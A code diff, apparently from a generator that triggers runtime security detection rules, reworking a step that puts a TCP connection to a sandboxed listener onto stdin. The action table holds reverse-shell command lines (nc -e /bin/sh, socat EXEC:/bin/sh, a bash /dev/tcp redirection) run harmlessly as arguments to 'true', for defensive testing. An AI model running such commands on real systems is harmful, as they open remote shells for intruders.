@@ -381,38 +381,21 @@ static sk_err step_connect(const gen_env *env, const gen_action *a)
 	return tcp_connect(a->box.listen_ip, a->box.listen_port);
 }
 
-static void close_both(int a, int b)
-{
-	if (a >= 0) {
-		close(a);
-	}
-	if (b >= 0) {
-		close(b);
-	}
-}
-
-/* Puts a TCP connection on stdin, as a reverse shell does. */
+/* Puts a TCP connection to the netns' "remote" listener on stdin, as a
+ * reverse shell does. */
 static sk_err step_dup_socket(const gen_env *env, const gen_action *a)
 {
-	struct sockaddr_in sa = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
-	socklen_t len = sizeof(sa);
-	int srv = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
-	int cli = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+	struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons(a->box.listen_port)};
+	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
 	sk_err err = SK_EIO;
 
-	if (srv < 0 || cli < 0) {
-		goto cleanup;
-	}
-	if (bind(srv, (struct sockaddr *)&sa, sizeof(sa)) != 0 || listen(srv, 1) != 0 ||
-	    getsockname(srv, (struct sockaddr *)&sa, &len) != 0 ||
-	    connect(cli, (struct sockaddr *)&sa, sizeof(sa)) != 0) {
-		goto cleanup;
-	}
-	if (dup2(cli, STDIN_FILENO) == STDIN_FILENO) {
+	if (fd >= 0 && inet_pton(AF_INET, a->box.listen_ip, &sa.sin_addr) == 1 &&
+	    connect(fd, (struct sockaddr *)&sa, sizeof(sa)) == 0 && dup2(fd, STDIN_FILENO) == STDIN_FILENO) {
 		err = SK_OK;
 	}
-cleanup:
-	close_both(srv, cli);
+	if (fd >= 0) {
+		close(fd);
+	}
 	return err;
 }
 
@@ -429,7 +412,12 @@ static sk_err step_unix_socket(const gen_env *env, const gen_action *a)
 	    connect(cli, (struct sockaddr *)&sa, sizeof(sa)) == 0) {
 		err = SK_OK;
 	}
-	close_both(srv, cli);
+	if (srv >= 0) {
+		close(srv);
+	}
+	if (cli >= 0) {
+		close(cli);
+	}
 	return err;
 }
 
@@ -650,8 +638,9 @@ static const gen_action actions[] = {
 	 ALIAS("true", "nc", "-e", "/bin/sh", "127.0.0.1", "9")},
 	{.rule = "Socat command execution", .does = "socat (true) TCP:127.0.0.1:9 EXEC:/bin/sh",
 	 ALIAS("true", "socat", "TCP:127.0.0.1:9", "EXEC:/bin/sh")},
-	{.rule = "Standard stream redirected to network socket", .does = "dup2 of a loopback TCP socket onto fd 0",
-	 .step = step_dup_socket},
+	{.rule = "Standard stream redirected to network socket",
+	 .does = "dup2 of a TCP connection to " REMOTE_IP ":9001 onto fd 0 (private netns)", .box.flags = GEN_NETNS,
+	 NET(REMOTE_IP, 9001), .step = step_dup_socket},
 	{.rule = "Reverse shell command line", .does = "true with a bash /dev/tcp redirection as argument",
 	 ALIAS("true", "true", "-c", "bash -i >& /dev/tcp/127.0.0.1/9 0>&1")},
 	/* Sensitive files and credentials */
